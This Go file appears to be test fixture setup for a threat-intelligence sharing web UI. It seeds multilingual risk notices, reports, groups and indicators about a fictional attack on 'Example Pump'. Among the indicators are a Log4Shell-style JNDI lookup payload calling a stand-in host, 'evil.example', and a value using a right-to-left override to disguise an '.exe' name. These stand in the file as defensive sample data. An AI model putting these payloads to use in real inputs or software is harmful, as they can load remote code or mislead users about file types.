package webui

import (
	"context"
	"time"

	"tocsin/partner"
	"tocsin/sharing"
)

// MembersOf are the people of an organisation.
func (m members) MembersOf(ctx context.Context, org string) ([]partner.Person, error) {
	return m.c.people.MembersOf(ctx, org)
}

// evil is a payload as one would find it in an indicator.
const evil = `${jndi:ldap://evil.example/a}`

// share is what goes round in the circle: by the office, by Acme, and by Borel,
// which is suspended.
func (c *circle) share() {
	c.items = map[string]string{}
	by := c.clock.Now().Add(20 * time.Hour)
	about := sharing.About{Vulnerabilities: []string{"CVE-2026-990701"}, Purls: []string{"pkg:maven/org.example/pump@1.2"}, Products: []string{"Example Pump"}, Keywords: []string{"modbus"}}
	notice := sharing.Draft{Kind: sharing.RiskNotice, TLP: "CLEAR", AckBy: &by, About: about, Words: map[string]sharing.Words{
		"en": {Title: "Example Pump is being attacked", Text: "A flaw lets anybody run commands on the controller.\nWe have seen it used since Monday.", Concerns: "Whoever runs Example Pump 1.x with its port open.", First: "1. Cut the controller off from the network.\n2. Look for the indicators.\n3. Tell us what you find."},
		"de": {Title: "Example Pump wird angegriffen", Text: "Durch eine Lücke kann jeder Befehle auf der Steuerung ausführen.", Concerns: "Wer Example Pump 1.x mit offenem Port betreibt.", First: "1. Trennen Sie die Steuerung vom Netz.\n2. Suchen Sie die Indikatoren.\n3. Sagen Sie uns, was Sie finden."},
		"zh": {Title: "Example Pump 正遭攻击", Text: "该漏洞使任何人都能在控制器上执行命令。", Concerns: "使用 Example Pump 1.x 且端口开放者。", First: "1. 断开控制器网络。\n2. 查找指标。\n3. 将结果告知我们。"},
		"fr": {Title: "Example Pump est attaqué", Text: "Une faille permet à quiconque d’exécuter des commandes sur l’automate.", Concerns: "Qui exploite Example Pump 1.x avec son port ouvert.", First: "1. Coupez l’automate du réseau.\n2. Cherchez les indicateurs.\n3. Dites-nous ce que vous trouvez."}}}
	c.gives("notice", "karin", notice)
	late := c.clock.Now().Add(30 * time.Minute)
	older := notice
	older.AckBy, older.TLP = &late, "GREEN"
	older.Words = map[string]sharing.Words{"en": {Title: "A flaw in Example Valve", Text: "It can be opened from outside.", Concerns: "Whoever runs it.", First: "Close the port."}}
	older.About = sharing.About{Products: []string{"Example Valve"}}
	c.gives("overdue", "karin", older)
	c.gives("amber", "karin", sharing.Draft{Kind: sharing.Report, TLP: "AMBER", About: about, Words: map[string]sharing.Words{"en": {Title: "What we know of the pump", Text: "For members alone."}}})
	signs := sharing.Draft{Kind: sharing.Indicator, TLP: "GREEN", About: about, Words: map[string]sharing.Words{"en": {Title: "Signs of the attack on Example Pump"}},
		Signs: []sharing.Sign{{Type: "domain", Value: "evil.example"}, {Type: "url", Value: "https://evil.example/a?b=1"}, {Type: "ipv4", Value: "192.0.2.17", Note: "since Monday"}, {Type: "email", Value: "bad@evil.example"},
			{Type: "payload", Value: evil}, {Type: "sha256", Value: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}, {Type: "other", Value: hostile[:len(hostile)-len("\u202ecod.exe")]}}}
	c.gives("signs", "karin", signs)
	signs.Signs = append(signs.Signs[1:], sharing.Sign{Type: "ipv6", Value: "2001:db8::17"})
	signs.Words = map[string]sharing.Words{"en": {Title: "Signs of the attack on Example Pump", Text: "The first domain was wrong."}}
	must(c.round.Correct(context.Background(), c.reader("karin"), c.items["signs"], signs, 0, ""))
	monday := c.clock.Now().Add(-6 * time.Hour)
	c.gives("seen", "ada", sharing.Draft{Kind: sharing.Sighting, TLP: "GREEN", Words: map[string]sharing.Words{"en": {Title: "Seen at one site"}}, Sightings: []sharing.Seen{{Type: "url", Value: "https://evil.example/a?b=1", Count: 12345, First: monday, Last: monday.Add(time.Hour)}}})
	c.gives("withdrawn", "karin", sharing.Draft{Kind: sharing.Report, TLP: "CLEAR", Words: map[string]sharing.Words{"en": {Title: "A rumour", Text: "It is said."}}})
	must(0, c.round.Withdraw(context.Background(), c.reader("karin"), c.items["withdrawn"], "It was not so."))
	c.gives("reported", "cleo", sharing.Draft{Kind: sharing.Report, TLP: "AMBER", To: []string{"office"}, Words: map[string]sharing.Words{"en": {Title: "We are hit, too", Text: "Three sites."}}})
	g := must(c.round.PutGroup(context.Background(), c.reader("karin"), sharing.Group{Platform: "circle", Name: "Energy", Orgs: []string{"acme", "borel"}}))
	c.items["group"] = g.ID
	c.gives("energy", "karin", sharing.Draft{Kind: sharing.Report, TLP: "GREEN", Groups: []string{g.ID}, Words: map[string]sharing.Words{"en": {Title: "For the energy firms", Text: "Only you."}}})
	must(c.round.Acknowledge(context.Background(), c.reader("fay"), c.items["overdue"], "", "We do not run it."))
	c.clock.Pass(time.Hour)
}

func (c *circle) gives(name, person string, d sharing.Draft) {
	c.clock.Pass(time.Second)
	c.items[name] = must(c.round.Share(context.Background(), c.reader(person), "circle", d, "")).ID
}
